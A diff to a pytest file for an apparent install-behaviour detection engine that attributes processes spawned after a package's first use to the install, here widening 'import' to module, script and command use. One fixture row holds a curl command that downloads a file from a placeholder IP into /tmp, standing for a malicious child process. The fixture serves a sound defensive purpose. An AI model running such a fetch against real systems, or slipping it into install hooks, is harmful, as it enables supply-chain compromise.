@@ -6,7 +6,7 @@ from typing import Any
 
 import pytest
 from engine import START, run, shipped
-from installer_trees.first_use import loaded_names
+from installer_trees.first_use import used_names
 
 CATALOGUE = shipped()
 Row = dict[str, Any]
@@ -34,10 +34,13 @@ CHILD = row(13, 12, "curl -s http://203.0.113.9/a -o /tmp/a", 9)
         row(12, 10, "python3 -c import color_kit", 8),
         row(12, 10, "python3 -c from color_kit.core import run; run()", 8),
         row(12, 10, "python3 -c import os,sys; import color_kit", 8),
+        row(12, 10, "python3 -m color_kit.tool --fast", 8),
+        row(12, 10, "/usr/bin/python3 /home/kim/.local/bin/color-kit", 8),
+        row(12, 10, "color-kit --version", 8),
     ],
-    ids=["import", "from", "after others"],
+    ids=["import", "from", "after others", "module", "script", "command"],
 )
-def test_first_import_and_what_it_starts_belong_to_the_install(use: Row) -> None:
+def test_first_use_and_what_it_starts_belong_to_the_install(use: Row) -> None:
     rows = [SHELL, PIP, use, CHILD]
     assert members(rows) == [[PIP["process"], use["process"], CHILD["process"]]]
     assert members(rows[::-1]) == members(rows), "the order of arrival does not count"
@@ -57,12 +60,11 @@ def test_what_the_shell_became_is_a_use_too() -> None:
         row(12, 99, "python3 -c import color_kit", 8),
         row(12, 10, "python3 -c import color_kits", 8),
         row(12, 10, "python3 train.py --colors color-kit", 8),
-        row(12, 10, "color-kit --version", 8),
         row(12, 10, "python3 -c import color_kit", 0.5),
     ],
-    ids=["much later", "another shell", "another name", "an argument", "its command", "before"],
+    ids=["much later", "another shell", "another name", "an argument", "before"],
 )
-def test_what_is_no_first_import_stays_outside(other: Row) -> None:
+def test_what_is_no_first_use_stays_outside(other: Row) -> None:
     assert members([SHELL, PIP, other]) == [[PIP["process"]]]
 
 
@@ -77,10 +79,11 @@ def test_a_system_package_has_no_import() -> None:
     [
         ("node -e require('@scope/my-tool/lib')", {"mytool"}),
         ("python3.11 -c from a_b.c import d; import e", {"ab", "e"}),
+        (r"C:\Python\python.exe C:\Python\Scripts\My.Tool.exe run", {"mytool"}),
         ("node -e import('chalk')", {"chalk"}),
         ("ruby -e puts", set()),
         ("", set()),
     ],
 )
 def test_names_that_a_line_loads(line: str, names: set[str]) -> None:
-    assert loaded_names(line) == names
+    assert used_names(line) == names
